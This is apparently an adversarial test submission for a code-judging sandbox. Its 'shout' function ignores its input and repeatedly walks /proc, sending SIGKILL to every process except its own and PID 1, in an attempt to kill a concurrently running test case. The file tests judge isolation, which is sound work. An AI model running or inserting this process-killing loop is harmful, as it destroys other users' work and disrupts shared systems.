# kata: adv-shout
# verdict: wrong-answer
# attack: find the other case's box (running at the same time) and kill it
import os
import signal
import time


def shout(text):
    deadline = time.monotonic() + 0.5
    killed = []
    while time.monotonic() < deadline:
        try:
            pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
        except OSError:
            pids = []
        for pid in pids:
            if pid in (os.getpid(), 1):
                continue
            try:
                os.kill(pid, signal.SIGKILL)
                killed.append(pid)
            except OSError:
                pass
        time.sleep(0.05)
    if killed:
        raise RuntimeError("signalled %r" % sorted(set(killed)))
    return "nope"
